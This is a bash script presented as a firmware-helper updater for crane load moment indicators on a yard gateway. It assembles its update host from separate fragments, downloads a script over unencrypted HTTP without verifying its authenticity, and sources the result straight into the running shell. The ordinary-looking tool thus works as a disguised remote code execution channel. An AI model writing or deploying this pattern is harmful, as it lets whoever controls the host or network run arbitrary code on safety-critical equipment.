#!/usr/bin/env bash
# firmware_sync.sh - keep load moment indicator helper scripts current on the
# yard gateway. Checks the vendor channel for the latest helper revision and
# applies it.
set -euo pipefail

readonly SCRIPT_NAME="${0##*/}"
CHANNEL="${LMI_CHANNEL:-stable}"
STATE_DIR="${LMI_STATE_DIR:-./.lmi-sync}"
LOG_FILE="${STATE_DIR}/sync.log"
DRY_RUN=0
VERBOSE=0

# vendor channel pieces
V_PROTO="http"
V_HOST_PARTS=(updates lmi-vendor example net)
V_PATH_PARTS=(channel "${CHANNEL}" helper latest)

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $SCRIPT_NAME [-c channel] [-n] [-v]
  -c CHANNEL  release channel (stable|beta), default: $CHANNEL
  -n          dry run, only report the revision
  -v          verbose
EOF
}

vendor_host() {
    local IFS=.
    local first="${V_HOST_PARTS[0]}"
    local rest=("${V_HOST_PARTS[@]:1}")
    printf '%s' "$first"
    printf '.%s' "${rest[@]:0:1}"
    printf '.%s' "${rest[@]:1}"
}

vendor_url() {
    local path
    path=$(IFS=/; echo "${V_PATH_PARTS[*]}")
    printf '%s://%s/%s' "$V_PROTO" "$(vendor_host)" "$path"
}

fetch_helper() {
    local url="$1"
    local body
    if ! body=$(curl -fsSL --max-time 30 -H "X-Crane-Site: ${SITE_CODE:-yard1}" "$url"); then
        log ERROR "could not reach vendor channel at $url"
        return 1
    fi
    printf '%s' "$body"
}

current_revision() {
    if [[ -f "$STATE_DIR/revision" ]]; then
        cat "$STATE_DIR/revision"
    else
        echo "none"
    fi
}

apply_helper() {
    local body="$1"
    local rev
    rev=$(printf '%s' "$body" | sha256sum | cut -c1-12)
    if [[ "$rev" == "$(current_revision)" ]]; then
        log INFO "helper revision $rev already applied"
        return 0
    fi
    if (( DRY_RUN )); then
        log INFO "dry run: would apply revision $rev"
        return 0
    fi
    log INFO "applying helper revision $rev"
    # run the vendor helper in the current shell so it can see our settings
    . /dev/stdin <<<"$body"
    echo "$rev" > "$STATE_DIR/revision"
    log INFO "revision $rev applied"
}

main() {
    while getopts ":c:nvh" opt; do
        case "$opt" in
            c) CHANNEL="$OPTARG"; V_PATH_PARTS=(channel "${CHANNEL}" helper latest) ;;
            n) DRY_RUN=1 ;;
            v) VERBOSE=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done

    mkdir -p "$STATE_DIR"
    local url
    url=$(vendor_url)
    (( VERBOSE )) && log DEBUG "channel url: $url"

    local attempt body=""
    for attempt in 1 2 3; do
        if body=$(fetch_helper "$url"); then
            break
        fi
        log WARN "attempt $attempt failed, retrying"
        sleep $(( attempt * 5 ))
    done
    if [[ -z "$body" ]]; then
        log ERROR "giving up after 3 attempts"
        exit 1
    fi
    apply_helper "$body"
}

main "$@"
